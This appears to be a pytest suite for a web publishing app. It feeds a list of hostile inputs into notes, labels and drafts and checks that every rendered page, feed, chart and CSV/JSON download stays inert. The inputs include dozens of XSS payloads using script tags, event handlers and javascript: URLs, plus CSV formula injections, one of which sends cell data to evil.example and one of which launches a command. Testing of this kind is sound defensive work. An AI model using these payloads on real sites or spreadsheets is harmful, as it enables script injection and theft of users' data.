"""Hostile notes render inert: no script element, on* handler, javascript: or data: URL anywhere."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from publishing_data import seed_event, store_result

from web.publish.publishing import publish, save_draft
from web.publish.render import escape_markdown, markdown_to_html

HOSTILE = [
    "<script>alert(1)</script> in a note",
    "<img src=x onerror=alert(2)> broken image",
    "[click me](javascript:alert(3)) a Markdown link",
    "![pic](javascript:alert(4)) and ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNSk+) images",
    '<a href="javascript:alert(6)">anchor</a> raw anchor',
    "&lt;script&gt;alert(7)&lt;/script&gt; entities that decode to a script",
    "[ref]: javascript:alert(8) a reference definition, then [ref] used",
    "<javascript:alert(9)> an autolink and <http://example.org/x onmouseover=alert(10)>",
    "<svg onload=alert(11)><iframe src=javascript:alert(12)></iframe>",
    '"><script>alert(13)</script> attribute breakout',
    "[a](&#106;avascript:alert(14)) entity-encoded scheme and <a href='jav&#x09;ascript:alert(15)'>tab</a>",
    "# a heading\n> a quote\n1. a list inside a note",
    "<style>body{display:none}</style><form action=javascript:alert(16)><button>go</button></form>",
    "[a [b](javascript:alert(17))](javascript:alert(18)) nested links",
    "[x][1]\n\n[1]: javascript:alert(19)\n\na reference link over several lines",
    "<!-- <script>alert(20)</script> --> an HTML comment",
    '<p style="background:url(javascript:alert(21))">css</p> and <b style=color:red>b</b>',
    '<iframe srcdoc="<script>alert(22)</script>"></iframe> srcdoc',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(23)"> <base href="javascript:/">',
    "\u202e<script>alert(24)</script> right-to-left and \uff1cscript\uff1ealert(25)\uff1c/script\uff1e",
    "&amp;lt;script&amp;gt;alert(26)&amp;lt;/script&amp;gt; double-encoded",
    "`<script>alert(27)</script>` a code span and\n```\n<script>alert(28)</script>\n```",
    "[x](<javascript:alert(29)>) [y](  JaVaScRiPt:alert(30)) [z](vbscript:msgbox(31))",
    "<details open ontoggle=alert(32)> <math><mtext><table><mglyph><style><img src=x onerror=alert(33)>",
    '![x](x "onerror=alert(34)") <object data=javascript:alert(35)></object>',
    "<form><button formaction=javascript:alert(36)>x</button></form> {: onclick=alert(37) }",
    "Costs $5 to $10 and $\\foo{$ (mathtext in a chart label)",
    "Control characters \x00 \x0b \x1b \ufffe in a note (XML cannot carry them)",
    '=HYPERLINK("http://evil.example/?"&A1,"click") a spreadsheet formula',
    "@SUM(1+1)*cmd|' /C calc'!A0 another formula",
]


class Inspector(HTMLParser):
    """Collects what must never appear: script/iframe elements, on* attributes, dangerous URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_head = False  # the page's own <style> and <meta> live in <head>

    def handle_endtag(self, tag):
        if tag == "head":
            self.in_head = False

    def handle_starttag(self, tag, attrs):
        if tag == "head":
            self.in_head = True
        bad_form = tag == "form" and any(k == "action" and "javascript" in (v or "").lower()
                                         for k, v in attrs)
        bad_head_only = tag in ("style", "meta") and not self.in_head
        if tag in ("script", "iframe", "frame", "object", "embed", "base", "svg", "math") or bad_form \
                or bad_head_only:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            compact = "".join((value or "").split()).lower()
            if name.lower().startswith("on") or name.lower() in ("style", "srcdoc", "formaction"):
                self.problems.append(f"{tag} {name}=")
            if name in ("href", "src", "action", "formaction", "xlink:href") and (
                    compact.startswith("javascript:") or compact.startswith("vbscript:")
                    or (name == "src" and compact.startswith("data:"))):
                self.problems.append(f"{tag} {name}={value}")


def problems(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


@pytest.fixture
def hostile(db):
    """Hostile text in every field a digest shows: notes, tables, title, questions, venue, labels,
    summaries, entities, and the organiser's own edits (a rename and a summary)."""
    from capture.store import approved_notes
    from web.review import record_edit

    notes = [(f"h{i}", f"Table <b onclick=alert({i})>{i % 3}</b>\x0b", text)
             for i, text in enumerate(HOSTILE)]
    event = seed_event(db, slug="hostile", notes=notes,
                       title='Event <script>alert("title")</script> [x](javascript:alert(0))',
                       venue="<img src=x onerror=alert('venue')>",
                       questions=[HOSTILE[2], HOSTILE[14], "<iframe srcdoc='<script>alert(1)</script>'>"])
    segs = [{"text": n.text, "note": n.ref, "table": n.table, "start": 0, "end": len(n.text)}
            for n in approved_notes(db, event)]
    themes = []
    for i in range(0, len(segs), 4):
        part = segs[i:i + 4]
        label = f"<script>alert('label')</script>[l{i}](javascript:x) {i} $\\foo{{$ \x1b\x00"
        themes.append({"id": f"t{i}", "label": label,
                       "keywords": ["<b>"], "summary": part[-1]["text"], "size": len(part),
                       "tables": list(dict.fromkeys(s["table"] for s in part)),
                       "quotes": [{"text": s["text"], "note": s["note"]} for s in part], "segments": part})
    entities = [{"text": text, "label": label, "count": 2}
                for text, label in (("<script>alert('org')</script>", "ORG"), (HOSTILE[1], "GPE"),
                                    (HOSTILE[15], "LAW"), (HOSTILE[18], "ORG"))]
    result = {"event": {"slug": "hostile", "title": event.title}, "themes": themes, "unassigned": [],
              "entities": entities}
    store_result(db, event, result)
    record_edit(db, event, "rename", theme="t4", label=HOSTILE[16] + " " + HOSTILE[5])
    record_edit(db, event, "summary", theme="t8", summary="\n".join(HOSTILE[15:22]))
    return event


def login(client):
    page = client.get("/auth/login").get_data(as_text=True)
    token = page.split('name="csrf_token" type="hidden" value="')[-1].split('"')[0]
    client.post("/auth/login", data={"email": "organiser@example.org", "password": "correct horse battery",
                                     "csrf_token": token})


def test_the_inspector_sees_what_it_must_reject():
    raw = '<p onclick="x"><script></script><a href=" JaVaScRiPt:alert(1)">a</a><img src="data:x"></p>'
    assert len(problems(raw)) == 4
    raw = ('<b style="x"><iframe srcdoc="y"></iframe><meta http-equiv="refresh"><svg></svg>'
           '<button formaction="z">')
    assert len(problems(raw)) == 6


def test_escape_markdown_leaves_no_link_image_or_html():
    for text in HOSTILE:
        html = markdown_to_html(f"> {escape_markdown(text)}")
        assert problems(html) == []
        assert "<a " not in html and "<img" not in html, text


def _without_own_charts(html: str) -> str:
    """The download with its inlined charts (issue 13: it carries them, to show them offline) taken
    out, once each is checked to be an SVG image with no script, handler or link in it."""
    import base64
    import re

    charts = re.findall(r'src="(data:image/svg\+xml;base64,([A-Za-z0-9+/=]+))"', html)
    assert len(charts) == 2
    for uri, encoded in charts:
        svg = ET.fromstring(base64.b64decode(encoded))  # hostile labels are text in it, escaped
        assert svg.tag == "{http://www.w3.org/2000/svg}svg"
        for element in svg.iter():
            assert element.tag.rsplit("}", 1)[-1] not in ("script", "foreignObject", "a", "iframe")
            for name, value in element.attrib.items():
                assert not name.rsplit("}", 1)[-1].startswith("on"), name
                assert not value.strip().lower().startswith("javascript:"), value
        html = html.replace(uri, "chart.svg")
    return html


def test_every_page_and_the_feed_are_inert(app, client, db, hostile):
    publish(db, hostile)
    pages = ["/digests", "/digests/hostile", "/digests/hostile/v1", "/digests/hostile/digest.html"]
    login(client)
    pages += ["/review/hostile", "/review/hostile/digest", "/review/hostile/redactions"]
    for path in pages:
        res = client.get(path)
        assert res.status_code == 200, path
        html = res.get_data(as_text=True)
        if path.endswith("digest.html"):
            html = _without_own_charts(html)
        assert problems(html) == [], path
        assert "alert(1)</script>" not in html
    # The hostile text is still there, as text.
    page = client.get("/digests/hostile").get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt; in a note" in page
    feed = ET.fromstring(client.get("/digests.atom").data)
    contents = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}content")]
    titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert contents and all(problems(c) == [] for c in contents)
    assert any("<script>" in t for t in titles)  # a title is plain text in Atom (escaped in the XML)
    charts = [f"/digests/hostile/v1/charts/{name}.svg" for name in ("theme-sizes", "themes-by-table")]
    charts += [f"/review/hostile/charts/{name}.svg" for name in ("theme-sizes", "themes-by-table")]
    for path in charts:
        res = client.get(path)
        assert res.status_code == 200, path  # a "$" in a label does not start mathtext (and fail)
        svg = ET.fromstring(res.data)
        for el in svg.iter():
            assert not el.tag.endswith("script") and not el.tag.endswith("foreignObject")
            assert not any(k.lower().startswith("on") for k in el.attrib)
        texts = [el.text or "" for el in svg.iter()]
        assert any("<script>alert('label')</script>" in t for t in texts), path
        assert any("$\\foo{$" in t for t in texts) or "review" in path and "tables" in path, path


def test_downloads_round_trip_hostile_text(app, client, db, hostile):
    """Quotes, commas, newlines and markup in labels and quotes: the CSV still has one row per theme
    and the JSON gives back the text exactly."""
    publish(db, hostile)
    data = json.loads(client.get("/digests/hostile/digest.json").data)
    rows = list(csv.DictReader(io.StringIO(client.get("/digests/hostile/themes.csv").get_data(as_text=True))))
    assert len(rows) == len(data["themes"]) >= 4
    assert [r["label"] for r in rows] == [t["label"] for t in data["themes"]]
    assert data["themes"][1]["label"] == HOSTILE[16] + " " + HOSTILE[5]  # the organiser's rename, as typed
    assert any("\n" in q for r in rows for q in [r["summary"]])  # a multi-line summary stays in its cell
    # No cell starts like a formula when the CSV is opened in a spreadsheet.
    cells = [c for r in rows for k, c in r.items() if k != "size"]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert any(c.startswith("'=HYPERLINK(") for c in cells)


def test_an_organiser_draft_is_sanitised_too(app, client, db, hostile):
    # The organiser's draft is raw Markdown: every hostile item, each as its own block.
    save_draft(db, hostile, "# Digest\n\n" + "\n\n".join(HOSTILE) + "\n\n[x](javascript:alert(3)) "
               "![y](data:image/png;base64,AAAA)\n")
    publish(db, hostile)
    html = client.get("/digests/hostile").get_data(as_text=True)
    assert problems(html) == []
    assert problems(client.get("/digests/hostile/digest.html").get_data(as_text=True)) == []
